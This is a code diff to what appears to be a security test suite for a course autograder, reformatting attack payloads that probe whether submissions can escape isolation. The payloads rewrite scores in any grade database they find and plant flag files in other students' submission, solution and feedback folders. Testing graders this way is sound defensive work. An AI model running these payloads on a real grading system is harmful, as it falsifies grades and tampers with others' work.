@@ -2,8 +2,9 @@
 
 from pathlib import Path
 
-import coursekit
 import numpy
+
+import coursekit
 from attacks.base import ESCAPED, Attack, by_cell
 from attacks.by_process import INSIDE
 from coursekit.grading.record import State
@@ -16,7 +17,8 @@ _NUMPY = str(Path(numpy.__file__).parent)
 #: All places in which something could be left for the next submission.
 _PLACES = """\
 import glob, os, sys, tempfile
-places = ["/", "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/home", "/root", "/usr/local", "/var", "/etc", "/opt",
+places = ["/", "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/home", "/root",
+          "/usr/local", "/var", "/etc", "/opt",
           os.getcwd(), os.path.expanduser("~"), tempfile.gettempdir(), sys.prefix, sys.base_prefix, *sys.path,
           *glob.glob("/home/*"), *glob.glob("/tmp/*"), *glob.glob("/run/*"), os.environ.get("IPYTHONDIR", "/"),
           os.environ.get("MPLCONFIGDIR", "/"), os.path.dirname(os.__file__)]
@@ -37,7 +39,7 @@ for up in range(1, 7):
 for path in places:
     if os.path.exists(path):
         db = sqlite3.connect(path, timeout=0.1)
-        for table, column in (("grade", "auto_score"), ("grade", "manual_score"), ("grades", "score"), ("rows", "score")):
+        for table, column in (("grade", "auto_score"), ("grade", "manual_score"), ("result", "score")):
             try:
                 db.execute(f"UPDATE {table} SET {column} = 12")
                 db.commit()
@@ -58,8 +60,9 @@ for name in ("gradebook.db", "grading_ledger.db", "nbgrader_config.py"):
         _AIM,
         source="""\
 import os, shutil
-for folder in ("@root@", "@root@/exercises/activations", "@root@/solutions/activations", "@root@/submitted", "@home@",
-               "@root@/submitted/zz-victim/activations", "@root@/autograded", "@root@/feedback", "..", "../..", "../../.."):
+for folder in ("@root@", "@root@/exercises/activations", "@root@/solutions/activations", "@root@/submitted",
+               "@home@", "@root@/submitted/zz-victim/activations", "@root@/autograded", "@root@/feedback",
+               "..", "../..", "../../.."):
     try:
         with open(os.path.join(folder, "@flag@"), "w") as file:
             file.write("x")
